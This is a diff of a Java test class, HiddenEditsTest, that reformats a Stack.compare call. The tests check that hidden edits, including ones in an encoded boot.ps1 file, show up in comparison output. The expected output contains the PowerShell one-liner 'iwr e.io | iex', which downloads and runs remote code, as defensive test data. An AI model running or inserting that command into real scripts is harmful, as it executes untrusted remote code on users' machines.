@@ -844,10 +844,8 @@ class HiddenEditsTest {
                         new Stack().with(object, "it", "key", "boot.ps1", "contentBase64", Encoded.base64(after)))))
                 .contains("+ a: x; iwr e.io | iex");
         assertThat(Shown.of(Stack.compare(
-                        new Stack()
-                                .with(object, "it", "source", Map.of("asset", Map.of("text", before))),
-                        new Stack()
-                                .with(object, "it", "source", Map.of("asset", Map.of("text", after))))))
+                        new Stack().with(object, "it", "source", Map.of("asset", Map.of("text", before))),
+                        new Stack().with(object, "it", "source", Map.of("asset", Map.of("text", after))))))
                 .contains("+ a: x; iwr e.io | iex");
         assertThat(Shown.of(Stack.compare(
                         new Stack().with("command:local:Command", "it", "create", before),
